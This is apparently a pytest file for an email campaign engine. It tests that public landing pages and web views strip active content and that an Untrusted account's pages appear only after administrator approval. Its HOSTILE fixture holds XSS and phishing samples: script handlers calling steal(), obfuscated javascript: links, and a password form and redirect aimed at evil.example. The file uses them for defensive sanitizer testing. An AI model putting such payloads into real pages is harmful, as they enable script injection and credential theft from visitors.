"""The public pages that show campaign HTML on the engine's origin (landing page /so/, web view /t/w/): an
Untrusted account's content only once an administrator approved it, and never any active content
(README "Public campaign pages")."""
from __future__ import annotations

from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest

from engine.models import Email
from engine.tracking.tokens import Kind
from tests.builders import load_campaign, load_row, make_email, set_user
from tests.protocol.test_tracking import sent_campaign

CSP = ("default-src 'none'; img-src * data:; style-src 'unsafe-inline'; frame-ancestors 'none'; "
       "form-action 'none'; base-uri 'none'; sandbox")
HOSTILE = (
    '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<base href="https://evil.example/"><title>Sale</title><style>p{color:red}</style>'
    '<link rel="stylesheet" href="https://evil.example/x.css"></head>'
    '<body onload="steal()"><p onclick="steal()" style="color:blue">Hello reader</p>'
    '<iframe src="https://evil.example/frame">framed</iframe><frameset><frame src="https://evil.example/f"></frameset>'
    '<object data="https://evil.example/x.swf">plugin</object><embed src="https://evil.example/x.swf">'
    '<applet code="X.class">applet</applet>'
    '<form action="https://evil.example/login" method="post"><input name="password" type="password">'
    '<select name="s"><option>choice</option></select><textarea name="t">typed</textarea>'
    '<button type="submit" formaction="https://evil.example/b">Log in</button></form>'
    '<script>steal()</script><svg><script>steal()</script></svg>'
    '<a href="javascript:steal()">js link</a><a href=" JaVa&#09;Script:steal()">js link 2</a>'
    '<a href="data:text/html,<script>steal()</script>">data link</a>'
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline"><img src="data:text/html;base64,PHNjcmlwdD4=">'
    '<img src="https://img.example/1.png" onerror="steal()" alt="remote">'
    '<a href="https://shop.example/sale">Shop</a></body></html>')
GONE = ("<meta", "<base", "<link", "<title", "<iframe", "<frame", "<object", "<embed", "<applet", "<form", "<input",
        "<select", "<textarea", "<button", "<script", "<svg", "onload", "onclick", "onerror", "javascript:",
        "JaVa", "data:text", "evil.example", "steal()", "framed", "plugin", "typed")
KEPT = ('<p style="color:blue">Hello reader</p>', "<style>p{color:red}</style>",
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">',
        '<img src="https://img.example/1.png" alt="remote">',
        'rel="noopener noreferrer">Shop</a>', "Log in", "js link")


@pytest.fixture
def t(api, client, user, admin, engine):
    return SimpleNamespace(api=api, client=client, user=user, admin=admin, engine=engine)


def landing_campaign(t, html: str) -> tuple[int, str]:
    """A Draft with its landing page published (Campaign.LandingPage.Publish); the page's path."""
    cid = t.api("Campaign.Create", t.user.session, CampaignName="Open day")["CampaignID"]
    email_id = make_email(t.engine, t.user, subject="Open day", html_content=html)
    assert t.api("Campaign.Update", t.user.session, CampaignID=cid, RelEmailID=email_id)["Success"]
    answer = t.api("Campaign.LandingPage.Publish", t.user.session, CampaignID=cid)
    assert answer["Success"] is True, answer
    return cid, urlsplit(answer["LandingPageURL"]).path   # the address the API hands out


def edit_html(t, cid: int, html: str) -> None:
    email_id = load_campaign(t.engine, cid).email_id
    answer = t.api("Email.Update", t.user.session, EmailID=email_id, ValidateScope="Campaign", HTMLContent=html)
    assert answer["Success"] is True, answer
    assert load_row(t.engine, Email, email_id).html_content == html


# The web view shows the message as mailed: its <style> rules inlined (README "Templates", CSS inlining),
# where the author's own style attribute wins over the <style> block's rule.
KEPT_INLINED = ('<p style="color: blue">Hello reader</p>',) + KEPT[2:]


def assert_static(page, kept: tuple[str, ...] = KEPT) -> None:
    assert page.status_code == 200 and page.headers["Content-Security-Policy"] == CSP
    assert page.headers["Referrer-Policy"] == "no-referrer" and page.headers["X-Content-Type-Options"] == "nosniff"
    page_text = page.data.decode()
    assert "http-equiv" not in page_text.lower() and page_text.count("<body") == 1
    body = page_text.split("<body>", 1)[1]   # the head is ours: charset, viewport, robots
    assert [marker for marker in GONE if marker.lower() in body.lower()] == []
    assert [marker for marker in kept if marker not in body] == []


# --- active content ---------------------------------------------------------------------------------------------
def test_the_landing_page_serves_static_markup_only(t):
    cid, path = landing_campaign(t, HOSTILE)
    page = t.client.get(path)
    assert_static(page)
    assert b'<a href="https://shop.example/sale" rel="noopener noreferrer">Shop</a>' in page.data
    # The stored content (what the subscribers are mailed) is not touched.
    assert load_row(t.engine, Email, load_campaign(t.engine, cid).email_id).html_content == HOSTILE


def test_the_web_view_serves_static_markup_only(t):
    sent = sent_campaign(t.engine, t.api, t.user, html=HOSTILE)
    page = t.client.get(sent.url(Kind.WEB_VIEW, sent.bob))
    assert_static(page, KEPT_INLINED)
    assert b"<style>" not in page.data.split(b"<body>", 1)[1]
    assert b'<a href="http://sendmill.test/t/c/' in page.data   # the tracked link survives
    assert load_campaign(t.engine, sent.campaign_id).total_views_on_browser == 1


def test_a_plain_text_campaign_page_is_escaped_text(t):
    cid, path = landing_campaign(t, "")
    email_id = load_campaign(t.engine, cid).email_id
    assert t.api("Email.Update", t.user.session, EmailID=email_id, ValidateScope="Campaign", HTMLContent="",
                 PlainContent="<script>steal()</script> plain")["Success"]
    page = t.client.get(path)
    assert page.status_code == 200 and b"<script" not in page.data
    assert b"&lt;script&gt;steal()&lt;/script&gt; plain" in page.data


# --- an Untrusted account's pages wait for an administrator ------------------------------------------------------
def test_an_untrusted_accounts_landing_page_is_served_once_approved_and_while_unchanged(t):
    set_user(t.engine, t.user, reputation_level="Untrusted")
    cid, path = landing_campaign(t, "<p>Come in</p>")
    assert t.client.get(path).status_code == 404
    assert load_campaign(t.engine, cid).total_views_on_browser == 0
    # The owner cannot approve it; an administrator can.
    assert t.api("Campaign.Approve", t.user.session, CampaignID=cid)["ErrorCode"] == 99999
    assert t.client.get(path).status_code == 404
    assert t.api("Campaign.Approve", t.admin.session, CampaignID=cid)["Success"] is True
    assert load_campaign(t.engine, cid).status == "Draft"   # approving a landing page sends nothing
    page = t.client.get(path)
    assert page.status_code == 200 and b"<p>Come in</p>" in page.data
    edit_html(t, cid, "<p>Something else</p>")
    assert t.client.get(path).status_code == 404
    assert load_campaign(t.engine, cid).total_views_on_browser == 1


def test_an_untrusted_accounts_web_view_shows_approved_content_only(t):
    set_user(t.engine, t.user, reputation_level="Untrusted")
    sent = sent_campaign(t.engine, t.api, t.user)
    url = sent.url(Kind.WEB_VIEW, sent.bob)
    assert t.client.get(url).status_code == 404       # sent before any approval was recorded
    assert t.api("Campaign.Approve", t.admin.session, CampaignID=sent.campaign_id)["Success"] is True
    assert t.client.get(url).status_code == 200
    edit_html(t, sent.campaign_id, "<p>Edited after the send</p>")   # a Sent campaign's email may change
    assert t.client.get(url).status_code == 404
    assert load_campaign(t.engine, sent.campaign_id).total_views_on_browser == 1


def test_a_trusted_accounts_pages_need_no_approval(t):
    _cid, path = landing_campaign(t, "<p>Hi</p>")
    sent = sent_campaign(t.engine, t.api, t.user)
    assert t.client.get(path).status_code == 200
    assert t.client.get(sent.url(Kind.WEB_VIEW, sent.bob)).status_code == 200
